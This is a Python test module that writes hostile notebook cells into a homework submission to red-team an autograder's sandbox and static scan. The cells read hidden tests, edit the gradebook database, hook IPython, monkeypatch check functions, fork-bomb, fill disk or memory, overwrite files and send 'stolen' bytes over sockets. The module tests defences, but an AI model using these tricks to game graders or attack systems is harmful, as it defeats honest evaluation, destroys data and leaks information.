"""Hostile hw1 submissions for the red-team suite and the grading benchmark.

Each attack is one code cell inserted right after the student's ``conv2d_forward`` cell of an
honest but buggy submission (the ``conv2d_dilation_ignored`` sample: dilation is wrong, everything
else right). ``expected`` is the most the attack may score: ``"base"`` is the honest base's score
(an attack may also cost its author points, e.g. by breaking the functions the tests use),
``"flagged"`` means it may score more than the base but never without its ``flags`` (an attack
that also fools the recheck, caught by the static scan), a number is exactly the points of the
cells before the attack (it stopped the notebook, earlier cells keep their points); ``status``
lists
the acceptable statuses and every prefix in ``flags`` must appear in the row's flags.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import NamedTuple

import nbformat

ASSIGNMENT = "hw1_convolution"
BASE_SAMPLE = "sample_conv2d_dilation_ignored"
AFTER_CELL = "conv2d_forward"
POINTS_BEFORE_CONV2D = 4.0  # test_conv_output_size, the only test cell before the attack


class Attack(NamedTuple):
    source: str
    expected: str | float
    status: tuple[str, ...]
    flags: tuple[str, ...]
    tag_tests: tuple[str, ...] = ()  # tags the attack also puts on every test cell


ATTACKS = {
    "read_hidden_tests": Attack(
        """
import os
found = []
for top in ['/tmp', '/root', '/work', '/home', '/srv', '/etc', '/var', os.getcwd()]:
    for folder, subfolders, files in os.walk(top):
        subfolders[:] = [d for d in subfolders if d not in ('site-packages', '.pyenv', '.venv')]
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith('.db'):
                found.append(path)
            elif name.endswith('.ipynb'):
                try:
                    text = open(path, errors='ignore').read()
                except OSError:
                    continue
                if 'BEGIN HIDDEN TESTS' in text or 'BEGIN SOLUTION' in text:
                    found.append(path)
print('FOUND ' + ', '.join(found) if found else 'nothing found')
""",
        "base",
        ("graded", "needs_manual_grade"),
        (),
    ),
    "write_own_score": Attack(
        """
import glob, sqlite3
for path in glob.glob('../../../*.db') + glob.glob('/**/gradebook.db', recursive=False):
    db = sqlite3.connect(path)
    db.execute('UPDATE grade SET manual_score = 100')
    db.commit()
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:database",),
    ),
    "input_transformer": Attack(
        """
def _blank_tests(lines):
    text = ''.join(lines)
    return ['pass\\n'] if ('check' in text or 'score_cases' in text) else lines
get_ipython().input_transformers_post.append(_blank_tests)
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:ipython_hook", "recheck_lower:"),
    ),
    "custom_exception_handler": Attack(
        """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:ipython_hook",),
    ),
    "patch_torch_and_checks": Attack(
        """
import torch
from hw_utils import checks
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
checks.assert_close = lambda *args, **kwargs: None
checks.assert_equal = lambda *args, **kwargs: None
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:monkeypatch",),
    ),
    "shadow_test_helpers": Attack(
        """
def check_conv(*args, **kwargs):
    return None

def random_conv_check(*args, **kwargs):
    return None
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:shadowing", "recheck_lower:"),
    ),
    "display_hook": Attack(
        """
import sys
sys.displayhook = lambda value: print(value) if value is None else None
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:monkeypatch",),
    ),
    "overwrite_files": Attack(
        """
import os
written = 0
for name in os.listdir('.') + [os.path.join('..', n) for n in os.listdir('..')]:
    try:
        with open(name, 'w') as f:
            f.write('pwned')
        written += 1
    except OSError:
        pass
print('overwrote', written, 'files')
""",
        "base",
        ("graded", "needs_manual_grade"),
        (),
    ),
    "memory_hog": Attack(
        "hog = bytearray(20 * 2**30)\n",
        "base",
        ("graded", "needs_manual_grade", "kernel_died"),
        (),
    ),
    "fork_bomb": Attack(
        """
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as error:
    print('stopped after', children, 'processes:', error)
""",
        "base",
        ("graded", "needs_manual_grade", "kernel_died"),
        ("static:process",),
    ),
    "network": Attack(
        """
import socket
for host, port in [('127.0.0.1', {port}), ('8.8.8.8', 53), ('pypi.org', 443)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b'stolen')
        print('CONNECTED', host)
    except OSError as error:
        print('blocked', host, type(error).__name__)
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:process",),
    ),
    "disk_fill": Attack(
        """
chunk = b'x' * 2**20
try:
    with open('fill.bin', 'wb') as f:
        for _ in range(2048):
            f.write(chunk)
except OSError as error:
    print('disk limit:', error)
""",
        "base",
        ("graded", "needs_manual_grade"),
        (),
    ),
    "output_flood": Attack(
        "for i in range(2_000_000):\n    print('spam spam spam spam spam spam')\n",
        "base",
        ("graded", "needs_manual_grade"),
        ("output_truncated",),
    ),
    "transformer_by_computed_names": Attack(
        """
import IPython as _ip
_shell = getattr(_ip, 'get_' + 'ipython')()
def _blank(lines):
    text = ''.join(lines)
    return ['pass\\n'] if ('check' in text or 'score_cases' in text) else lines
_hooks = getattr(_shell, 'input_transformers_' + 'post')
_done = _hooks.append(_blank)
""",
        "flagged",
        ("graded", "needs_manual_grade"),
        ("static:ipython_hook", "static:obfuscation"),
    ),
    "checks_patched_through_vars": Attack(
        """
from hw_utils import checks as _c
_done = vars(_c).update(assert_close=lambda *a, **k: None, assert_equal=lambda *a, **k: None)
""",
        "flagged",
        ("graded", "needs_manual_grade"),
        ("static:monkeypatch",),
    ),
    "tests_tagged_recheck_skip": Attack(
        """
from hw_utils import checks as _c
vars(_c).update(assert_close=lambda *a, **k: None, assert_equal=lambda *a, **k: None)
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:monkeypatch", "recheck_lower:"),
        tag_tests=("recheck-skip",),
    ),
    "lying_tensor": Attack(
        """
class _Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, '__name__', '')
        if name in ('gt', '__gt__', 'isnan', 'ne', '__ne__', 'lt', '__lt__', 'any'):
            return torch.zeros(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

def conv2d_forward(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    (sh, sw), (ph, pw), (dh, dw) = as_pair(stride), as_pair(padding), as_pair(dilation)
    out_h = conv_output_size(x.shape[2], weight.shape[2], sh, ph, dh)
    out_w = conv_output_size(x.shape[3], weight.shape[3], sw, pw, dw)
    out = torch.zeros(x.shape[0], weight.shape[0], out_h, out_w, dtype=x.dtype)
    return out.as_subclass(_Agreeable)
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:special_method",),
    ),
    "print_hidden_tests": Attack(
        """
print('\\n#####\\n'.join(s for s in In if 'BEGIN HIDDEN' in s))
""",
        "base",
        ("graded", "needs_manual_grade"),
        ("static:history",),
    ),
    "exit_kernel": Attack(
        "import os\nos._exit(1)\n",
        POINTS_BEFORE_CONV2D,
        ("kernel_died",),
        ("static:process",),
    ),
    "ignore_interrupt_forever": Attack(
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
        POINTS_BEFORE_CONV2D,
        ("timeout",),
        ("static:process",),
    ),
}


def _cell_index(nb, grade_id: str) -> int:
    return next(
        i
        for i, cell in enumerate(nb.cells)
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


def write_attacks(base_notebook: Path, submissions: Path, listener_port: int) -> dict[str, Attack]:
    """One submission folder per attack, built from the honest base notebook."""
    for name, attack in ATTACKS.items():
        nb = nbformat.from_dict(json.loads(base_notebook.read_text()))
        source = attack.source.strip().replace("{port}", str(listener_port))
        nb.cells.insert(_cell_index(nb, AFTER_CELL) + 1, nbformat.v4.new_code_cell(source))
        for cell in nb.cells:
            if attack.tag_tests and cell.metadata.get("nbgrader", {}).get("grade"):
                cell.metadata["tags"] = [*cell.metadata.get("tags", []), *attack.tag_tests]
        folder = submissions / f"attack_{name}" / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{ASSIGNMENT}.ipynb")
    return {f"attack_{name}": attack for name, attack in ATTACKS.items()}
